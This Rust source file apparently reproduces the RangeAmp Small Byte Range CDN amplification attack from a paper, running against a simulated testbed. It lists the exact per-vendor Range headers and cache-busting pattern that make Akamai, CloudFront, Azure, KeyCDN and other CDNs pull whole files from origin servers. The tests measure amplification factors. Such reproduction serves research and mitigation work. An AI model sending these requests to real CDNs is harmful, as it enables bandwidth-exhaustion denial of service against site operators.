@@ -1,0 +1,223 @@
+//! The Small Byte Range (SBR) attack (paper §IV-B).
+//!
+//! The attacker sends a crafted single-range request with a random query
+//! string (forcing a cache miss) to a CDN that applies the *Deletion* or
+//! *Expansion* policy; the CDN fetches the whole (or a much larger)
+//! representation from the origin while the attacker receives a few
+//! hundred bytes. Amplification grows with the target resource size.
+
+use rangeamp_cdn::{Vendor, VendorProfile};
+use rangeamp_http::range::RangeHeader;
+use rangeamp_http::Request;
+
+use crate::amplification::{AmplificationMeasurement, TrafficBreakdown};
+use crate::testbed::{Testbed, TARGET_HOST, TARGET_PATH};
+
+/// A vendor's exploited range case (Table IV column 2): the request
+/// sequence that maximizes origin-side traffic while minimizing
+/// attacker-side traffic.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct ExploitedCase {
+    /// Human-readable form, matching the paper's notation (e.g.
+    /// `bytes=0-0 & bytes=0-0` for KeyCDN's request-twice case).
+    pub description: String,
+    /// The `Range` header of each request, in send order. All requests
+    /// share one cache-busted URL (KeyCDN's second request must hit the
+    /// same cache key).
+    pub ranges: Vec<RangeHeader>,
+}
+
+/// Selects the exploited range case for `vendor` at `file_size`, per
+/// Table IV (including the Azure 8 MB, Huawei 10 MB, and CloudFront
+/// multi-range conditionals).
+pub fn exploited_range_case(vendor: Vendor, file_size: u64) -> ExploitedCase {
+    const AZURE_WINDOW: u64 = 8 * 1024 * 1024;
+    const HUAWEI_THRESHOLD: u64 = 10 * 1024 * 1024;
+
+    let single = |text: &str| ExploitedCase {
+        description: text.to_string(),
+        ranges: vec![RangeHeader::parse(text).expect("static case is valid")],
+    };
+    match vendor {
+        Vendor::AlibabaCloud => single("bytes=-1"),
+        Vendor::Azure => {
+            if file_size <= AZURE_WINDOW {
+                single("bytes=0-0")
+            } else {
+                single("bytes=8388608-8388608")
+            }
+        }
+        Vendor::CloudFront => single("bytes=0-0,9437184-9437184"),
+        Vendor::HuaweiCloud => {
+            if file_size < HUAWEI_THRESHOLD {
+                single("bytes=-1")
+            } else {
+                single("bytes=0-0")
+            }
+        }
+        Vendor::KeyCdn => {
+            let range = RangeHeader::parse("bytes=0-0").expect("static case is valid");
+            ExploitedCase {
+                description: "bytes=0-0 & bytes=0-0".to_string(),
+                ranges: vec![range.clone(), range],
+            }
+        }
+        _ => single("bytes=0-0"),
+    }
+}
+
+/// A configured SBR attack.
+///
+/// # Example
+///
+/// ```
+/// use rangeamp::attack::SbrAttack;
+/// use rangeamp_cdn::Vendor;
+///
+/// let report = SbrAttack::new(Vendor::GCoreLabs, 10 * 1024 * 1024).run();
+/// // Table IV: G-Core Labs reaches ≈ 17 197× at 10 MB.
+/// assert!(report.amplification_factor() > 10_000.0);
+/// ```
+#[derive(Debug, Clone)]
+pub struct SbrAttack {
+    vendor: Vendor,
+    resource_size: u64,
+    profile: Option<VendorProfile>,
+}
+
+impl SbrAttack {
+    /// Configures an attack against `vendor` hosting a resource of
+    /// `resource_size` bytes.
+    pub fn new(vendor: Vendor, resource_size: u64) -> SbrAttack {
+        SbrAttack {
+            vendor,
+            resource_size,
+            profile: None,
+        }
+    }
+
+    /// Overrides the vendor profile (e.g. with mitigations applied).
+    pub fn with_profile(mut self, profile: VendorProfile) -> SbrAttack {
+        self.profile = Some(profile);
+        self
+    }
+
+    /// The vendor under attack.
+    pub fn vendor(&self) -> Vendor {
+        self.vendor
+    }
+
+    /// The target resource size in bytes.
+    pub fn resource_size(&self) -> u64 {
+        self.resource_size
+    }
+
+    /// The exploited case this attack will send.
+    pub fn exploited_case(&self) -> ExploitedCase {
+        exploited_range_case(self.vendor, self.resource_size)
+    }
+
+    /// Builds a fresh testbed and runs one attack round.
+    pub fn run(&self) -> AmplificationMeasurement {
+        let profile = self
+            .profile
+            .clone()
+            .unwrap_or_else(|| self.vendor.profile());
+        let bed = Testbed::builder()
+            .profile(profile)
+            .resource(TARGET_PATH, self.resource_size)
+            .build();
+        self.run_on(&bed, 1)
+    }
+
+    /// Runs one attack round on an existing testbed. `round` seeds the
+    /// cache-busting query string; traffic counters are reset first so
+    /// the measurement covers exactly this round.
+    pub fn run_on(&self, bed: &Testbed, round: u64) -> AmplificationMeasurement {
+        bed.reset_traffic();
+        let case = self.exploited_case();
+        let uri = format!("{TARGET_PATH}?rnd={round:016x}");
+        for range in &case.ranges {
+            let req = Request::get(&uri)
+                .header("Host", TARGET_HOST)
+                .header("Range", range.to_string())
+                .build();
+            bed.request(&req);
+        }
+        AmplificationMeasurement {
+            target: self.vendor.name().to_string(),
+            exploited_case: case.description,
+            resource_size: self.resource_size,
+            traffic: TrafficBreakdown::from_stats(
+                bed.client_segment().stats(),
+                bed.origin_segment().stats(),
+            ),
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    const MB: u64 = 1024 * 1024;
+
+    #[test]
+    fn case_selection_matches_table_iv() {
+        assert_eq!(exploited_range_case(Vendor::Akamai, MB).description, "bytes=0-0");
+        assert_eq!(exploited_range_case(Vendor::AlibabaCloud, MB).description, "bytes=-1");
+        assert_eq!(exploited_range_case(Vendor::Azure, MB).description, "bytes=0-0");
+        assert_eq!(
+            exploited_range_case(Vendor::Azure, 9 * MB).description,
+            "bytes=8388608-8388608"
+        );
+        assert_eq!(
+            exploited_range_case(Vendor::CloudFront, 25 * MB).description,
+            "bytes=0-0,9437184-9437184"
+        );
+        assert_eq!(exploited_range_case(Vendor::HuaweiCloud, MB).description, "bytes=-1");
+        assert_eq!(
+            exploited_range_case(Vendor::HuaweiCloud, 10 * MB).description,
+            "bytes=0-0"
+        );
+        assert_eq!(
+            exploited_range_case(Vendor::KeyCdn, MB).description,
+            "bytes=0-0 & bytes=0-0"
+        );
+        assert_eq!(exploited_range_case(Vendor::KeyCdn, MB).ranges.len(), 2);
+    }
+
+    #[test]
+    fn akamai_1mb_amplifies_three_orders() {
+        let report = SbrAttack::new(Vendor::Akamai, MB).run();
+        let factor = report.amplification_factor();
+        assert!(factor > 1000.0, "got {factor}");
+        assert!(report.traffic.attacker_response_bytes < 1500, "paper Fig 6b bound");
+    }
+
+    #[test]
+    fn amplification_grows_with_file_size() {
+        let small = SbrAttack::new(Vendor::Fastly, MB).run().amplification_factor();
+        let large = SbrAttack::new(Vendor::Fastly, 5 * MB).run().amplification_factor();
+        assert!(large > 4.0 * small, "proportionality: {small} → {large}");
+    }
+
+    #[test]
+    fn keycdn_round_sends_two_requests() {
+        let report = SbrAttack::new(Vendor::KeyCdn, MB).run();
+        assert_eq!(report.traffic.attacker_requests, 2);
+        assert!(report.amplification_factor() > 500.0);
+    }
+
+    #[test]
+    fn repeated_rounds_amplify_independently() {
+        let attack = SbrAttack::new(Vendor::Akamai, MB);
+        let bed = Testbed::builder()
+            .vendor(Vendor::Akamai)
+            .resource(TARGET_PATH, MB)
+            .build();
+        let first = attack.run_on(&bed, 1).amplification_factor();
+        let second = attack.run_on(&bed, 2).amplification_factor();
+        assert!(first > 1000.0 && second > 1000.0, "cache busting keeps it hot");
+    }
+}
